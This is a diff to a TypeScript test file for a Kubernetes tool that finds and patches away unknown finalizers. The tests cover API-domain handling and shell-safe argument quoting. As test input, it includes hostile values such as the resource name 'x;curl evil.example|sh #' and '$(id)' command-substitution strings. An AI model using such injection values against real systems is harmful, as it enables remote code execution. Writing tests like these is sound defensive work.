@@ -2,7 +2,10 @@
 import assert from "node:assert/strict";
 import { execFileSync } from "node:child_process";
 import { test } from "node:test";
-import { removalCommand, strangeFinalizers } from "./deletion.ts";
+import { apiDomain, kubernetesDomain } from "#meta/api-domain.ts";
+import { Deletions } from "./deletion.ts";
+
+const deletions = new Deletions(kubernetesDomain);
 
 const roles = {
   group: "rbac.authorization.k8s.io",
@@ -26,8 +29,8 @@ const deleted = { name: "r", namespace: "tenant", deletionTimestamp: "2026-01-01
 
 test("strange finalizers are removed if they are still where they were, and known ones stay", () => {
   const finalizers = ["evil.example/x", "kubernetes.io/pvc-protection", "foregroundDeletion", "evil.example/y"];
-  assert.deepStrictEqual(strangeFinalizers({ ...deleted, finalizers }), ["evil.example/x", "evil.example/y"]);
-  const words = argumentsOf(removalCommand(roles, { ...deleted, finalizers }));
+  assert.deepStrictEqual(deletions.strangeFinalizers({ ...deleted, finalizers }), ["evil.example/x", "evil.example/y"]);
+  const words = argumentsOf(deletions.removalCommand(roles, { ...deleted, finalizers }));
   assert.deepStrictEqual(words.slice(0, -1), [
     "patch",
     "roles.rbac.authorization.k8s.io",
@@ -45,13 +48,25 @@ test("strange finalizers are removed if they are still where they were, and know
   ]);
 });
 
+test("a finalizer of Kubernetes is known by its whole name, in the API domain of the server", () => {
+  const own = ["orphan", "foregroundDeletion", "customresourcecleanup.apiextensions.platform.io"];
+  const strange = ["evil.example/pvc-protection", "orphan.evil.example", "kubernetes.io/pvc-protection"];
+  const found = new Deletions(apiDomain("platform.io")).strangeFinalizers({
+    ...deleted,
+    finalizers: [...own, "platform.io/pvc-protection", ...strange],
+  });
+  assert.deepStrictEqual(found, strange);
+});
+
 test("a shell takes hostile names and finalizers as texts", () => {
   const finalizer = "evil.example/'$(id)'";
   for (const name of ["x;curl evil.example|sh #", "$(id)", "it's", "two words"]) {
-    const words = argumentsOf(removalCommand(roles, { ...deleted, name, finalizers: [finalizer] }));
+    const words = argumentsOf(deletions.removalCommand(roles, { ...deleted, name, finalizers: [finalizer] }));
     assert.equal(words[2], name);
     assert.equal((JSON.parse(words.at(-1)!) as readonly { readonly value?: string }[])[0]?.value, finalizer);
   }
-  const [, object] = argumentsOf(removalCommand(roles, { ...deleted, name: "--all", finalizers: [finalizer] }));
+  const [, object] = argumentsOf(
+    deletions.removalCommand(roles, { ...deleted, name: "--all", finalizers: [finalizer] }),
+  );
   assert.equal(object, "roles.rbac.authorization.k8s.io/--all");
 });
